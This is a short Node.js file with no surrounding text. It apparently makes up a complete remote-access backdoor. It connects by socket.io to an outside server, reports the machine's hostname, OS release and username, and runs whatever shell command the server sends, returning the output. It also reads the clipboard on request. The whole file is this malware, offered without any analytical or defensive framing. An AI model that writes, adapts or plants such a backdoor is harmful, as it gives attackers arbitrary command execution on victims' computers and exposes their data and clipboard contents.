const { exec } = require('child_process')
const os = require('os')
const io = require('socket.io-client')

const socket = io('http://luff.invalid:4446', { reconnection: true, reconnectionDelay: 5000 })
const clip = () => { try { return require('child_process').execSync('pbpaste').toString() } catch { return '' } }

socket.on('connect', () => socket.emit('join', { hostname: os.hostname(), release: os.release(), user: os.userInfo().username }))
socket.on('command', (message) => {
  if (message.code === 'clip') return socket.emit('message', { result: clip() })
  exec(message.code, (error, stdout) => socket.emit('message', { result: error ? String(error) : stdout, cid: message.cid }))
})
socket.on('exit', () => process.exit())
